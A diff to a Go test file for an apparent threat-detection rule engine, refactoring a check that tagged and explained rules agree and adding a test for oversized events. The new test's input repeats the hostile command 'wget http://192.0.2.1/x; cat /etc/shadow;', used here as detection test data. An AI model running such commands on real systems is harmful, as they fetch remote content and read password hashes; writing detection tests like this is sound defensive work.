@@ -26,22 +26,44 @@ func TestExplain_agreesWithTag(t *testing.T) {
 		}
 	}
 	for i := 0; i < len(events); i += 40 { // all of them take long under the race detector
-		findings, err := set.Tag(t.Context(), &events[i])
-		if err != nil {
-			t.Fatal(err)
-		}
-		var tagged, explained []string
-		for _, f := range findings {
-			tagged = append(tagged, f.RuleID)
-		}
-		for _, e := range set.Explain(&events[i]) {
-			if e.Matched {
-				explained = append(explained, e.Rule.ID)
+		for _, e := range checkExplained(t, set, &events[i]) {
+			if e.Cut || e.Matched != e.Trace.Holds {
+				t.Errorf("%s of %s: matched %t, holds %t, cut %t", e.Rule.ID, events[i].Payload.AppendJSON(nil), e.Matched, e.Trace.Holds, e.Cut)
 			}
 		}
-		if tagged = slices.Compact(tagged); !slices.Equal(tagged, explained) {
-			t.Errorf("%s: tagged by %q, explained as %q", events[i].Payload.AppendJSON(nil), tagged, explained)
+	}
+}
+
+// checkExplained compares which rules match an event with which are said to.
+func checkExplained(t *testing.T, set *Set, ev *ttp.Event) []Explanation {
+	t.Helper()
+	var tagged, explained []string
+	for _, f := range mustTag(t, set, ev) {
+		tagged = append(tagged, f.RuleID)
+	}
+	list := set.Explain(ev)
+	for _, e := range list {
+		if e.Matched {
+			explained = append(explained, e.Rule.ID)
 		}
+	}
+	if tagged = slices.Compact(tagged); !slices.Equal(tagged, explained) {
+		t.Errorf("%.200s: tagged by %q, explained as %q", ev.Payload.AppendJSON(nil), tagged, explained)
+	}
+	return list
+}
+
+func TestExplain_ofTooMuchIsCutAndStillAgrees(t *testing.T) {
+	t.Parallel()
+	set, _ := Load(Options{Expand: shell.Expander}, Source{"builtin", os.DirFS("../builtin")})
+	ev := commandEvent(strings.Repeat("wget http://192.0.2.1/x; cat /etc/shadow; ", 1500))
+	mustTag(t, set, &ev) // steps of tables that nobody took before are searches, too
+	list := checkExplained(t, set, &ev)
+	if !slices.ContainsFunc(list, func(e Explanation) bool { return e.Cut }) {
+		t.Error("nothing was cut")
+	}
+	if !slices.ContainsFunc(list, func(e Explanation) bool { return e.Matched && e.Trace.Holds }) {
+		t.Error("no match is explained")
 	}
 }
 
